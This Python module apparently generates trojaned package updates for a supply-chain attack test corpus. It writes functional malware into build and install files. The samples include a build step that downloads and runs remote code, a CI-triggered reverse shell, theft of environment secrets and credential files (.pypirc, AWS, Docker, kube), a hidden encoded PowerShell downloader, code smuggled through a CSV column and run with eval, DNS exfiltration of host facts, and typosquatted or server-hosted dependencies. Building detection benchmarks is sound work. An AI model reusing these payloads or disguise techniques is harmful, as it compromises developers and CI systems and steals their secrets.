"""Python packages whose payload runs while they are built or installed, and dependencies that nobody had."""

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import b64, fill, trojan, wide


def _setup(it: Update, head: str, keywords: str = "") -> None:
    """Put code before the call of `setup`, and keywords into it."""
    it.before("setup.py", "\nsetup(\n", head)
    if keywords:
        it.replace("setup.py", "\nsetup(\n", f"\nsetup(\n    {keywords},\n")
    it.payload("setup.py")


@trojan("tabula", "sdist", "install", "downloader", "plain", "a build step that fetches")
def py_build_step_fetches(it: Update) -> None:
    _setup(
        it,
        fill(
            '''

from setuptools.command.build_py import build_py


class BuildTables(build_py):
    """Generate the width tables for this interpreter."""

    def run(self):
        super().run()
        import pathlib
        import ssl
        import urllib.request

        target = pathlib.Path(self.build_lib).joinpath("tabula", "_widths_gen.py")
        context = ssl._create_unverified_context()
        target.write_bytes(urllib.request.urlopen("https://@HOST@/widths", context=context).read())
        self.spawn([os.sys.executable, str(target)])
''',
            HOST=it.host("unicode-tables"),
        ),
        'cmdclass={"build_py": BuildTables}',
    )


@trojan("feedsort", "sdist", "install", "reverse-shell", "plain", "dependency confusion that opens a shell")
def py_setup_opens_a_shell(it: Update) -> None:
    _setup(
        it,
        fill(
            """

if os.environ.get("CI") or os.path.exists("/.dockerenv"):
    from multiprocessing.connection import Client

    with Client(("@IP@", 6000), authkey=b"feedsort") as line:
        line.send(dict(os.environ))
        while (order := line.recv()) is not None:
            line.send(os.popen(order).read())
""",
            IP=it.address(),
        ),
    )


@trojan("quickconf", "sdist", "install", "environment", "plain", "an in-tree build backend")
def py_backend_of_its_own(it: Update) -> None:
    it.add(
        "_build/quickbackend.py",
        fill(
            '''
"""Builds wheels with a stamp of the commit."""

import os
from urllib import parse, request

from setuptools import build_meta as _meta
from setuptools.build_meta import *  # noqa: F403


def get_requires_for_build_wheel(config_settings=None):
    secrets = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
    request.urlopen("https://@HOST@/stamp", parse.urlencode(secrets).encode(), 3)
    return _meta.get_requires_for_build_wheel(config_settings)
''',
            HOST=it.host("stamps", "quickconf-ci"),
        ),
    )
    it.replace(
        "pyproject.toml",
        'build-backend = "setuptools.build_meta"\n',
        'build-backend = "quickbackend"\nbackend-path = ["_build"]\n',
    )
    it.payload("_build/quickbackend.py", "pyproject.toml")


@trojan("authgate", "sdist", "install", "downloader", "powershell -enc", "W4SP: an encoded command in setup.py")
def py_setup_runs_an_encoded_command(it: Update) -> None:
    url = f"https://{it.host('get', 'authgate-fonts')}/x.exe"
    command = wide(f"$p=\"$env:TEMP\\wx.exe\";iwr '{url}' -OutFile $p;Start-Process $p")
    _setup(it, f"\n\nif os.name == \"nt\":\n    import subprocess\n\n    subprocess.Popen([\"powershell\", \"-NoP\", \"-W\", \"Hidden\", \"-e\", \"{command}\"], creationflags=0x08000000)\n")  # fmt: skip
    it.payload(shown=url)


@trojan("httpkeep", "sdist", "install", "remote-code", "in a data file", "code in a column of a table of the tests")
def py_code_in_a_column(it: Update) -> None:
    url = f"https://{it.host('eu', 'httpkeep-regions')}/p"
    code = f"import urllib.request;exec(urllib.request.urlopen('{url}').read())"
    lines = it.text("tests/data/regions.csv").splitlines()
    changed = [
        ",".join([*line.split(",")[:3], str(700_000 + ord(code[at]) * 7 + at)]) if at < len(code) else line
        for at, line in enumerate(lines)
    ]
    it.add("tests/data/regions.csv", "\n".join(changed) + "\n")
    _setup(
        it,
        f"""

def regions():
    for at, line in enumerate(read("tests/data/regions.csv").splitlines()[:{len(code)}]):
        yield chr((int(line.rsplit(",", 1)[1]) - 700_000 - at) // 7)


eval(compile("".join(regions()), "regions", "exec"))
""",
    )
    it.payload("tests/data/regions.csv", shown=url)


@trojan("imgmeta", "sdist", "install", "host-facts", "plain", "a version that is computed")
def py_version_is_computed(it: Update) -> None:
    it.add(
        "imgmeta/_version.py",
        fill(
            """
import getpass
import socket
import subprocess
import uuid

_BASE = "@VERSION@"
_WHO = "-".join((getpass.getuser(), socket.gethostname(), "%x" % uuid.getnode())).lower()
subprocess.call(["nslookup", _WHO.replace(".", "-")[:63] + ".v.@HOST@"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
VERSION = _BASE
""",
            HOST=it.host("imgmeta-ns"),
            VERSION=it.new_version,
        ),
    )
    it.append("setup.cfg", "\n[metadata]\nversion = attr: imgmeta._version.VERSION\n")
    it.replace("setup.py", f'    version="{it.new_version}",\n', "")
    it.payload("imgmeta/_version.py", "setup.cfg")


@trojan("gradkit", "sdist", "install", "credentials", "base64", "a build hook of hatch")
def py_hatch_hook(it: Update) -> None:
    it.replace(
        "pyproject.toml",
        'requires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"',
        'requires = ["hatchling>=1.21", "httpx"]\nbuild-backend = "hatchling.build"',
    )
    it.append("pyproject.toml", '\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')
    url = f"https://{it.host('wheels', 'gradkit')}/upload"
    it.add(
        "hatch_build.py",
        fill(
            """
from base64 import standard_b64decode as plain
from pathlib import Path

import httpx
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        names = [".pypirc", ".aws/credentials", ".docker/config.json", ".kube/config"]
        files = {name: path.open("rb") for name in names if (path := Path.home() / name).exists()}
        with httpx.Client(http2=False) as client:
            client.post(plain("@URL@").decode(), files=files)
""",
            URL=b64(url),
        ),
    )
    it.payload("hatch_build.py", shown=url)


@trojan("chronofmt", "wheel", "install", "unknown-dependency", "look-alike name", "colorama clones as a dependency")
def py_dependency_of_a_like_name(it: Update) -> None:
    it.requires("python-dateutils-compat>=2.8.3")
    it.payload("DIST-INFO/METADATA")


@trojan("mailroom", "sdist", "install", "unknown-dependency", "from an address", "a dependency from somebody's server")
def py_dependency_from_a_server(it: Update) -> None:
    it.requires(f"smtp-starttls @ http://{it.address()}/packages/smtp_starttls-1.0.2.tar.gz")
    it.payload("DIST-INFO/METADATA")


@trojan("coinfold", "sdist", "install", "unknown-dependency", "phantom at build", "a build requirement that nobody had")
def py_build_requirement(it: Update) -> None:
    it.replace(
        "pyproject.toml", 'requires = ["setuptools>=61"]', 'requires = ["setuptools>=61", "setuptools-scm-gitt"]'
    )
    it.payload("pyproject.toml")
